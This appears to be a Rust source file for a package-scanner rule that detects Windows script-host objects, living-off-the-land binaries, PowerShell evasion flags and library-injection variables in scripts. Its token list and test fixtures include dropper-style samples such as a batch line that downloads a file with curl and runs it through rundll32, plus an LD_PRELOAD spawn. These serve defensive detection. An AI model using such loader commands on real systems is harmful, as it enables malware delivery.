use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use crate::context::{FileContext, FileKind};
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};
use crate::rules::{ValueNeedles, matcher, values, values_may_contain};

/// Windows script-host objects, living-off-the-land binaries and library-injection variables.
const TOKENS: &[(&str, &str)] = &[
    ("wscript.shell", "the Windows Script Host shell"),
    ("wscript.createobject", "the Windows Script Host"),
    (
        "scripting.filesystemobject",
        "the Windows Script Host file system",
    ),
    ("adodb.stream", "ADODB streams (binary droppers)"),
    ("shell.application", "the Windows shell automation object"),
    ("winmgmts:", "WMI"),
    ("msxml2.serverxmlhttp", "MSXML downloads"),
    ("wscript.scriptfullname", "the Windows Script Host"),
    ("rundll32", "rundll32 (DLL execution)"),
    ("regsvr32", "regsvr32 (scriptlet execution)"),
    ("mshta", "mshta (HTML application execution)"),
    ("certutil -decode", "certutil decoding"),
    ("certutil -urlcache", "certutil downloads"),
    ("bitsadmin /transfer", "BITS downloads"),
    ("ld_preload=", "LD_PRELOAD library injection"),
    (
        "dyld_insert_libraries",
        "DYLD_INSERT_LIBRARIES library injection",
    ),
    (
        "-executionpolicy bypass",
        "PowerShell execution-policy bypass",
    ),
    ("-encodedcommand", "encoded PowerShell"),
    ("frombase64string(", "PowerShell base64 decoding"),
    ("invoke-expression", "PowerShell Invoke-Expression"),
    ("executeinject", "process injection"),
];

/// PowerShell launch flags are also how editor/browser openers start PowerShell: medium.
fn severity_of(token: &str) -> Severity {
    if matches!(
        token,
        "-executionpolicy bypass" | "-encodedcommand" | "invoke-expression" | "frombase64string("
    ) {
        Severity::Medium
    } else {
        Severity::High
    }
}

/// The needles of [`TOKENS`].
pub(crate) fn token_needles() -> Vec<&'static str> {
    TOKENS.iter().map(|(token, _)| *token).collect()
}

static TOKEN_MATCHER: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| matcher(&token_needles()));

declare_rule! {
    /// ### What it does
    /// Finds Windows Script Host automation (`WScript.Shell`, `ADODB.Stream`,
    /// `Scripting.FileSystemObject`, WMI), living-off-the-land binaries (`rundll32`,
    /// `regsvr32`, `mshta`, `certutil -decode`, `bitsadmin`), PowerShell evasion
    /// (`-ExecutionPolicy Bypass`, `-EncodedCommand`, `FromBase64String`) and library injection
    /// (`LD_PRELOAD=`, `DYLD_INSERT_LIBRARIES`) in string values of scripts.
    ///
    /// ### Why is this bad?
    /// Node libraries have no use for script-host objects or these binaries; droppers (the 2024
    /// North-Korean `rundll32` loaders, STRRAT's JScript stage) and DLL side-loading rely on them.
    ///
    /// ### Examples
    /// Incorrect:
    /// ```js
    /// const data = '@echo off\ncurl -o p.db http://x\nrundll32 p.db,Run';
    /// ```
    /// Correct:
    /// ```js
    /// const xhr = window.ActiveXObject ? new ActiveXObject('Microsoft.XMLHTTP') : new XMLHttpRequest();
    /// ```
    LolbinUsage, "lolbin-usage", Process,
    tokens = &["powershell", "rundll", "regsvr", "mshta", "WScript", "ActiveX", "GetObject", "curl", "wget", "LD_PRELOAD", "DYLD_", "child_process", "exec", "spawn", "fork", "process"]
}

impl Rule for LolbinUsage {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        if !matches!(file.kind, FileKind::Script | FileKind::ShellLike) {
            return;
        }
        let Some(automaton) = TOKEN_MATCHER.as_ref() else {
            return;
        };
        let file_values = values(file);
        let mut reported = 0;
        // No value holds a token when their haystack does not.
        let searched: &[_] = if values_may_contain(file, ValueNeedles::Lolbins) {
            file_values
        } else {
            &[]
        };
        for value in searched {
            if value.text.len() > 20_000 {
                continue;
            }
            if let Some(found) = automaton.find(value.text)
                && let Some((token, what)) = TOKENS.get(found.pattern().as_usize())
            {
                // Syntax highlighters list these words in keyword tables: skip word lists.
                if value.text.matches(' ').count() > 40 && !value.text.contains('\n') {
                    continue;
                }
                out.push(file.finding(
                    &Self::META,
                    severity_of(token),
                    Confidence::Medium,
                    Some(value.offset + found.start()),
                    format!("uses {what} (`{token}`)"),
                    None,
                ));
                reported += 1;
                if reported >= 3 {
                    return;
                }
            }
        }
        // Scripts that resolve nothing (heavily obfuscated) still name the objects in text.
        if reported == 0
            && file.js.is_some()
            && file_values.is_empty()
            && let Some(found) = automaton.find(file.text)
            && let Some((token, what)) = TOKENS.get(found.pattern().as_usize())
        {
            out.push(file.finding(
                &Self::META,
                severity_of(token),
                Confidence::Low,
                Some(found.start()),
                format!("uses {what} (`{token}`)"),
                None,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::test_rule;

    #[test]
    fn test() {
        let pass = vec![
            "var xhr = window.ActiveXObject ? new ActiveXObject('Microsoft.XMLHTTP') : new XMLHttpRequest();".into(),
            "const keywords = 'if then else fi rundll32 regsvr32 mshta certutil bitsadmin a b c d e f g h i j k l m n o p q r s t u v w x y z aa bb cc dd ee ff gg hh ii jj kk ll mm nn oo pp qq rr ss';".into(),
        ];
        let fail = vec![
            "var sh = new ActiveXObject('WScript.Shell'); sh.Run('cmd /c calc');".into(),
            "const data = '@echo off\\ncurl -o p.db http://x\\nrundll32 p.db,Run'; require('fs').writeFileSync('a.bat', data);".into(),
            "require('child_process').spawn('LD_PRELOAD=/tmp/lib', ['/usr/bin/binary']);".into(),
            "var s = new ActiveXObject('ADO' + 'DB.Stream');".into(),
        ];
        test_rule(LolbinUsage::META.name, pass, fail);
    }
}
